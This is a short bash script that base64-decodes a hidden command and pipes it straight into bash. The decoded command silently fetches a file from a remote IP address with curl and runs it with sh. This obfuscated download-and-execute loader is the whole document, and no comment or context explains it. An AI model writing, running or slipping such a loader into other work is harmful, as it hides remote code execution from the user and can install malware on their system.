#!/bin/bash
B="Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC44L2EgfCBzaA=="
echo $B | openssl base64 -d -A | bash
